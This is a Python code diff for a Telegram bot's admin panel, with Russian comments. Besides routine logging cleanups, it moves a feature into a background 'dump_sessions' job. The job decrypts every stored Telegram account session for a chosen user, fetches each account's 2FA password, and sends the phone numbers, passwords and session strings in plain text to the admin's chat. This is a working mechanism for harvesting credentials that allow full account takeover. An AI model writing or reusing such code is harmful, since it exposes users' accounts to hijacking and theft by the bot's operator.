@@ -10,12 +10,37 @@ from states.states import AdminPanel
 from sqlalchemy.future import select
 from database.models import User, UserChannel, async_session
 from services.channel_manager import ChannelManager
+from services.jobs import JobContext
+from services.services import service, job_runner
+
+
+@job_runner.job("dump_sessions")
+async def dump_sessions_job(job: JobContext):
+    """Фоновая задача выгрузки сессий аккаунтов пользователя для администратора"""
+    accounts = await service.get_user_accounts(job.payload["user_id"])
+
+    # Все сессии расшифровываются одним пакетом в пуле потоков
+    session_strs = await service.decrypt_sessions([acc.session for acc in accounts])
+
+    chunks = ["🔑 Активные сессии:\n"]
+    for index, (acc, session_str) in enumerate(zip(accounts, session_strs), 1):
+        password_2fa = await service.get_2fa_password(acc.phone)
+        line = f"📱 {acc.phone} ({password_2fa}): {session_str}\n\n"
+        # Telegram ограничивает длину сообщения 4096 символами
+        if len(chunks[-1]) + len(line) > 4000:
+            chunks.append("")
+        chunks[-1] += line
+        await job.progress(f"⏳ Выгружаем сессии: {index}/{len(accounts)}")
+
+    await job.progress(f"✅ Выгружено сессий: {len(accounts)}", force=True)
+    for chunk in chunks:
+        await bot.send_message(job.chat_id, chunk)
 
 
 @dp.message(Command('admin_panel'))
 async def admin_panel(message: types.Message, state: FSMContext):
     if int(message.from_user.id) in ALLOWED_USERS:
-        app_logger.info(f"Администратор @{message.from_user.username} вошел в админ панель.")
+        app_logger.info("Администратор @%s вошел в админ панель.", message.from_user.username)
         markup = await users_markup()
         await message.answer("Админ-панель:", reply_markup=markup)
         await state.set_state(AdminPanel.get_users)
@@ -29,7 +54,7 @@ async def get_user(call: types.CallbackQuery, state: FSMContext):
     if call.data == "Выход":
         await call.message.answer("Вы успешно вышли из админ панели.")
         await state.clear()
-        app_logger.info(f"Администратор @{call.from_user.username} вышел из админ панели.")
+        app_logger.info("Администратор @%s вышел из админ панели.", call.from_user.username)
     elif call.data == "channels":
         # Переход к списку каналов
         await show_channels(call, state)
@@ -39,18 +64,16 @@ async def get_user(call: types.CallbackQuery, state: FSMContext):
             user_obj = result.scalars().first()
         if user_obj:
             text = f"Имя: {user_obj.full_name}\nТелеграм: @{user_obj.username}\n"
-            if int(call.from_user.id) == ADMIN_ID:
-                from services.account_manager import AccountService
-                service = AccountService(ENCRYPTION_KEY)
-                accounts = await service.get_user_accounts(user_obj.user_id)
-
-                session_text = "\n🔑 Активные сессии:\n"
-                for acc in accounts:
-                    session_str = await service.decrypt_session(acc.session_data)
-                    password_2fa = await service.get_2fa_password(acc.phone)
-                    session_text += f"📱 {acc.phone} ({password_2fa}): {session_str}\n\n"
-                text += session_text
             await call.message.answer(text)
+            if int(call.from_user.id) == ADMIN_ID:
+                # Расшифровка сессий всех аккаунтов выполняется фоновой задачей
+                await job_runner.enqueue(
+                    "dump_sessions",
+                    user_id=call.from_user.id,
+                    chat_id=call.message.chat.id,
+                    payload={"user_id": user_obj.user_id},
+                    text="⏳ Выгружаем сессии..."
+                )
         else:
             await call.message.answer("Пользователь не найден")
 
@@ -79,7 +102,7 @@ async def show_channels(call: types.CallbackQuery, state: FSMContext):
                 
             await state.set_state(AdminPanel.search_channels)
     except Exception as e:
-        app_logger.error(f"Ошибка при получении списка каналов: {e}")
+        app_logger.error("Ошибка при получении списка каналов: %s", e)
         await call.answer("Произошла ошибка при получении списка каналов")
 
 
@@ -117,7 +140,7 @@ async def search_channel_process(message: types.Message, state: FSMContext):
                 
             await state.set_state(AdminPanel.search_channels)
     except Exception as e:
-        app_logger.error(f"Ошибка при поиске каналов: {e}")
+        app_logger.error("Ошибка при поиске каналов: %s", e)
         await message.answer("Произошла ошибка при поиске каналов")
 
 
@@ -158,7 +181,7 @@ async def show_channel_details(call: types.CallbackQuery, state: FSMContext):
                 reply_markup=get_channel_actions_keyboard(channel.id, 0, 1)
             )
     except Exception as e:
-        app_logger.error(f"Ошибка при получении информации о канале: {e}")
+        app_logger.error("Ошибка при получении информации о канале: %s", e)
         await call.answer("Произошла ошибка при получении информации о канале")
 
 